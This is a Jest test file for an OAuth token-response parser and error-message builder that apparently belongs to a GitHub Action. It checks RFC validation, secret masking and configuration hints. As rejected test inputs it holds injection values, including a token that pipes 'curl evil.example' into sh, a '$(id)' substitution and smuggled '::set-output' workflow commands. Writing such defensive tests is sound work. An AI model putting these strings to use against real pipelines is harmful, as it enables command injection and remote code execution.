import { describe, expect, it } from '@jest/globals'
import { generateKeyPairSync } from 'node:crypto'
import { makeSelfSigned } from '../__fixtures__/tls.js'
import { refusalHint } from '../src/auth/index.js'
import { ActionError } from '../src/base/errors.js'
import { readSettings } from '../src/config/inputs.js'
import { describeFailure, TOKEN_ENDPOINT } from '../src/oauth/failure.js'
import { parseTokenResponse } from '../src/oauth/token-response.js'
import type { HttpResponse } from '../src/http/types.js'

const json = (body: unknown, status = 200): HttpResponse => ({
  status,
  headers: { 'content-type': 'application/json' },
  body: JSON.stringify(body)
})
const stent = { token_type: 'Bearer', access_token: 'eyJ.aaaa.bbbb', expires_in: 2592000 }

function parseError(response: HttpResponse): string {
  try {
    parseTokenResponse(response)
  } catch (error) {
    expect(error).toBeInstanceOf(ActionError)
    return (error as Error).message
  }
  throw new Error('expected parseTokenResponse to throw')
}

describe("Stent's response", () => {
  it('is read as a Bearer token valid 30 days', () => {
    expect(parseTokenResponse(json(stent))).toEqual({
      accessToken: 'eyJ.aaaa.bbbb',
      tokenType: 'Bearer',
      expiresIn: 2592000,
      scope: undefined
    })
  })
})

describe('lenient where RFC 6749 allows', () => {
  it('token_type in any case, expires_in as a string, scope when granted', () => {
    const token = parseTokenResponse(
      json({ ...stent, token_type: 'bearer', expires_in: '3600', scope: 'api:read' })
    )
    expect(token).toMatchObject({ tokenType: 'Bearer', expiresIn: 3600, scope: 'api:read' })
  })

  it('no expires_in (it is only RECOMMENDED)', () => {
    expect(parseTokenResponse(json({ ...stent, expires_in: undefined })).expiresIn).toBeUndefined()
  })
})

describe('strict about what a job needs', () => {
  it.each([
    [
      { ...stent, access_token: undefined },
      'has an invalid access_token: nothing instead of a string'
    ],
    [{ ...stent, access_token: '' }, 'has an invalid access_token: an empty or blank string'],
    [
      { ...stent, access_token: '        ' },
      'has an invalid access_token: an empty or blank string'
    ],
    [{ ...stent, access_token: 42 }, 'has an invalid access_token: a number instead of a string'],
    [{ ...stent, access_token: 'abc' }, 'a string of 3 characters, too short to mask safely'],
    [{ ...stent, access_token: ' eyJ.aaaa.bbbb' }, 'a string with leading or trailing space'],
    [
      { ...stent, access_token: 'eyJ.aaaa.bbbb\r' },
      'a string with a line break, control or non-ASCII'
    ],
    [
      { ...stent, access_token: 'eyJ.aaaa.bbbb\u2028' },
      'a string with a line break, control or non-ASCII'
    ],
    [
      { ...stent, token_type: 'mac' },
      "has token_type 'mac'; this action supports Bearer tokens only"
    ],
    [{ ...stent, token_type: undefined }, 'has an invalid token_type: expected a token type name'],
    [{ ...stent, token_type: 'Bearer\n::set-output name=x::1' }, 'has an invalid token_type'],
    [
      { ...stent, expires_in: 0 },
      'has an invalid expires_in: expected a positive number of seconds up to 2147483647 (68 years), got a number that is not positive'
    ],
    [{ ...stent, expires_in: -5 }, 'got a number that is not positive'],
    [{ ...stent, expires_in: 1e20 }, 'got a larger number'],
    [{ ...stent, expires_in: '99999999999999999999' }, 'got a string'],
    [{ ...stent, expires_in: 'soon' }, 'got a string'],
    [{ ...stent, expires_in: '1e3' }, 'got a string'],
    [
      { ...stent, scope: 'api:read\n::save-state name=x::y' },
      'has an invalid scope: expected RFC 6749 §3.3 scope tokens'
    ],
    [{ ...stent, scope: 'a  b' }, 'has an invalid scope'],
    [{ ...stent, scope: ' a' }, 'has an invalid scope'],
    [{ ...stent, scope: 'a "b"' }, 'has an invalid scope'],
    [
      { ...stent, scope: ['a'] },
      'has an invalid scope: expected RFC 6749 §3.3 scope tokens (printable ASCII, no quotes or backslashes) separated by single spaces, got an array'
    ]
  ])('%j', (body, message) => {
    expect(parseError(json(body))).toContain(message)
  })

  it.each([
    [0.5, 1],
    [3599.2, 3600],
    ['3600.5', 3601],
    [2 ** 31 - 1, 2 ** 31 - 1]
  ])('expires_in %j is read as %i whole seconds, rounded up', (expiresIn, seconds) => {
    expect(parseTokenResponse(json({ ...stent, expires_in: expiresIn })).expiresIn).toBe(seconds)
  })

  describe('a Bearer token holds to RFC 6750 §2.1 (b64token), so its text is never shell text', () => {
    it.each([
      'eyJ.aaaa.bbbb; curl evil.example | sh',
      'eyJ.aaaa bbbb',
      'eyJ.aaaa|bbbb',
      'eyJ.aaaa:bbbb',
      'eyJ.aaaa$(id)',
      'eyJ.aaaa==bbbb',
      "eyJ.aaaa'bbbb"
    ])('%j is refused, naming access_token, never quoting it', token => {
      const message = parseError(json({ ...stent, access_token: token }))
      expect(message).toBe(
        "The token response (HTTP 200) has an invalid access_token: a Bearer token with characters RFC 6750 §2.1 does not allow (only letters, digits, '-', '.', '_', '~', '+', '/' and trailing '=')."
      )
      expect(message).not.toContain('eyJ')
    })

    it('every b64token character, with trailing padding, is accepted', () => {
      const token = 'AZaz09-._~+/token=='
      expect(parseTokenResponse(json({ ...stent, access_token: token })).accessToken).toBe(token)
    })

    it('an N_A token from a token exchange keeps RFC 6749 §A.12 (printable ASCII)', () => {
      const token = 'id token: not; a|bearer'
      const exchanged = parseTokenResponse(
        json({
          access_token: token,
          token_type: 'N_A',
          issued_token_type: 'urn:ietf:params:oauth:token-type:id_token'
        }),
        'rfc8693'
      )
      expect(exchanged).toMatchObject({ accessToken: token, tokenType: 'N_A' })
      // A Bearer token from the same exchange is held to b64token.
      expect(() =>
        parseTokenResponse(
          json({
            access_token: token,
            token_type: 'Bearer',
            issued_token_type: 'urn:ietf:params:oauth:token-type:access_token'
          }),
          'rfc8693'
        )
      ).toThrow('has an invalid access_token: a Bearer token with characters RFC 6750 §2.1')
    })
  })

  it('does not echo a token_type that could be anything', () => {
    const message = parseError(json({ ...stent, token_type: 'x'.repeat(65) }))
    expect(message).toContain('has an invalid token_type')
    expect(message).not.toContain('xxxx')
  })

  it.each([
    ['an HTML page', { 'content-type': 'text/html' }, '<html><form>Sign in</form></html>'],
    ['a body that is not a JSON object', {}, '[{"access_token":"x"}]'],
    ['a body that is not a JSON object', {}, '{"access_token": "x",'],
    ['an empty body', {}, '']
  ])('%s is not a token, and the body is never quoted', (what, headers, body) => {
    const message = parseError({ status: 200, headers, body })
    expect(message).toContain(`answered HTTP 200 with ${what} instead of a JSON token response`)
    expect(message).toContain('token-url')
    if (body) expect(message).not.toContain(body.slice(0, 8))
  })
})

describe('failures name the status, the OAuth error and a hint, never the body', () => {
  const SECRET = 'p@ss w+rd/é'

  it('invalid_client points at the secret and auth-method', () => {
    const message = describeFailure(
      json({ error: 'invalid_client', error_description: 'client authentication failed' }, 401),
      [SECRET]
    )
    expect(message).toBe(
      "The token endpoint refused the request: HTTP 401, error 'invalid_client': client authentication failed. Hint: the server did not accept the client credentials. Check client-id and client-secret (rotated or expired?), or the key or federation for private_key_jwt and github_oidc, and that auth-method matches how the client is registered."
    )
  })

  it('an error_description that echoes the secret in any form loses it', () => {
    const echoed = [
      SECRET,
      encodeURIComponent(SECRET),
      new URLSearchParams({ s: SECRET }).toString(),
      Buffer.from(SECRET).toString('base64')
    ].join(' | ')
    const message = describeFailure(
      json({ error: 'invalid_request', error_description: `bad body: ${echoed}` }, 400),
      [SECRET]
    )
    expect(message).toContain(
      "HTTP 400, error 'invalid_request': bad body: *** | *** | s=*** | ***"
    )
    expect(message).not.toContain('p@ss')
  })

  it('quotes, backslashes, control characters and length are sanitised', () => {
    const message = describeFailure(
      json({ error: 'invalid_scope', error_description: `a"b\\c\nd${'x'.repeat(400)}` }, 400),
      []
    )
    expect(message).toContain("error 'invalid_scope': a?b?c?d")
    expect(message).toMatch(/x\.\.\.\. Hint: check the scope input/)
  })

  it.each([
    [
      404,
      'text/html',
      '<h1>Not Found</h1>',
      'HTTP 404 with an HTML page. Hint: check that token-url'
    ],
    [
      502,
      'text/html',
      '<h1>Bad gateway</h1>',
      'HTTP 502 with an HTML page. Hint: the server is unavailable'
    ],
    [503, 'text/plain', '', 'HTTP 503. Hint: the server is unavailable or throttling'],
    [302, 'text/plain', '', 'HTTP 302. Hint: redirects are not followed'],
    [
      401,
      'text/plain',
      'nope',
      'HTTP 401 with a body that is not an OAuth error. Hint: check client-id'
    ]
  ])('HTTP %i %s', (status, type, body, message) => {
    const text = describeFailure({ status, headers: { 'content-type': type }, body }, [])
    expect(text).toContain(message)
    if (body) expect(text).not.toContain(body)
  })
})

describe('hints that name the input to change', () => {
  const failure = (status: number, body: string, url?: string) =>
    describeFailure(
      { status, headers: { 'content-type': 'application/json' }, body },
      [],
      undefined,
      url ? new URL(url) : undefined
    )

  it("unsupported_response_type: set response-type: ''", () => {
    expect(failure(400, JSON.stringify({ error: 'unsupported_response_type' }))).toBe(
      "The token endpoint refused the request: HTTP 400, error 'unsupported_response_type'. Hint: the server does not take Stent's response_type=token: set response-type: '' for servers other than Stent."
    )
  })

  it("an invalid_request about response_type: set response-type: ''", () => {
    const body = { error: 'invalid_request', error_description: 'unrecognized response_type' }
    expect(failure(400, JSON.stringify(body))).toContain(
      "Hint: the server does not take Stent's response_type=token: set response-type: ''"
    )
    expect(failure(400, JSON.stringify({ ...body, error_description: 'bad audience' }))).toContain(
      'Hint: the server found the request malformed'
    )
  })

  it.each(['Invalid response type', 'RESPONSE_TYPE not allowed', 'response-type unsupported'])(
    'an invalid_request saying %j, in any case or spelling, gets the response-type hint',
    description => {
      const body = { error: 'invalid_request', error_description: description }
      expect(failure(400, JSON.stringify(body))).toContain(
        "Hint: the server does not take Stent's response_type=token: set response-type: ''"
      )
    }
  )

  it.each([404, 405])('HTTP %i at the issuer root: set issuer', status => {
    expect(failure(status, '', 'https://login.example.com/')).toBe(
      `The token endpoint answered HTTP ${status}. Hint: token-url looks like the issuer root: set issuer: https://login.example.com or token-url to the token_endpoint it lists.`
    )
  })

  it('HTTP 404 at a token endpoint path keeps the usual hint', () => {
    expect(failure(404, '', 'https://login.example.com/oauth/tokens')).toContain(
      'Hint: check that token-url is the token endpoint'
    )
  })

  it.each([
    [
      'a discovery document in the body',
      JSON.stringify({ issuer: 'x', token_endpoint: 'y' }),
      'https://login.example.com/oidc'
    ],
    ['the discovery path', '', 'https://login.example.com/.well-known/openid-configuration']
  ])('HTTP 405 with %s: use issuer or its token_endpoint', (_what, body, url) => {
    const message = failure(405, body, url)
    expect(message).toContain(
      'Hint: token-url is a discovery document, not the token endpoint: set issuer: to the URL before /.well-known/openid-configuration, or token-url to the token_endpoint it lists.'
    )
    if (body)
      expect(message).toMatch(/^The token endpoint answered HTTP 405 with a discovery document\./)
  })
})

describe('a refusal names the inputs of the method in use, whatever the status says', () => {
  const certificate = makeSelfSigned('/CN=refused-bot')
  const key = generateKeyPairSync('ec', { namedCurve: 'P-256' })
    .privateKey.export({ format: 'pem', type: 'pkcs8' })
    .toString()
  const mtls = { 'client-certificate': certificate.cert, 'client-key': certificate.key }
  const secretless = ['client-secret', 'basic-encoding']
  // Each method: its inputs; what the hint must name; what it must never name.
  const methods: Array<[string, Record<string, string>, string[], string[]]> = [
    ['client_secret_post', { 'client-secret': 's3cret' }, ['client-id', 'client-secret'], []],
    ['client_secret_basic', { 'client-secret': 's3cret' }, ['client-id', 'client-secret'], []],
    [
      'client_secret_jwt',
      { 'client-secret': 's3cret' },
      ['client-id', 'client-secret', 'client-assertion-alg'],
      []
    ],
    [
      'private_key_jwt',
      { 'client-assertion-key': key },
      ['client-id', 'client-assertion-key', 'client-assertion-kid', 'client-assertion-cert'],
      secretless
    ],
    [
      'tls_client_auth',
      mtls,
      ['client-id', 'client-certificate', 'client-key', 'subject DN', 'CA'],
      secretless
    ],
    [
      'self_signed_tls_client_auth',
      mtls,
      ['client-id', 'client-certificate', 'client-key', "client's JWKS"],
      secretless
    ],
    [
      'github_oidc',
      {},
      [
        'federated credential',
        'issuer https://token.actions.githubusercontent.com',
        'subject',
        'oidc-audience',
        'permissions: id-token: write'
      ],
      secretless
    ],
    [
      'none',
      { 'grant-type': 'token-exchange' },
      ['subject token', 'subject-token', 'oidc-audience'],
      secretless
    ]
  ]
  // How servers refuse a client: oidc-provider (invalid_client, 401), Duende (invalid_client,
  // 400), Glewlwyd (an empty 403), and gateways (no body, or JSON that is not an OAuth error).
  const refusals: Array<[string, HttpResponse]> = [
    ['400 invalid_client', json({ error: 'invalid_client' }, 400)],
    ['401 invalid_client', json({ error: 'invalid_client' }, 401)],
    ['401 with JSON that is not an OAuth error', json({ message: 'Unauthorized' }, 401)],
    ['401 with an unknown error code', json({ error: 'unauthorized' }, 401)],
    ['401 empty', { status: 401, headers: {}, body: '' }],
    ['403 empty', { status: 403, headers: {}, body: '' }],
    ['400 empty', { status: 400, headers: {}, body: '' }]
  ]
  const cases = methods.flatMap(([method, inputs, names, never]) =>
    refusals.map(
      ([refusal, response]) => [method, refusal, inputs, names, never, response] as const
    )
  )

  it.each(cases)('%s, %s', (method, _refusal, inputs, names, never, response) => {
    const settings = readSettings(
      name => ({ 'client-id': 'refused-client', 'auth-method': method, ...inputs })[name] ?? ''
    )
    const message = describeFailure(response, [], {
      ...TOKEN_ENDPOINT,
      hint: refusalHint(settings.auth, settings.clientId)
    })
    for (const name of [...names, 'auth-method']) expect(message).toContain(name)
    for (const name of never) expect(message).not.toContain(name)
  })
})
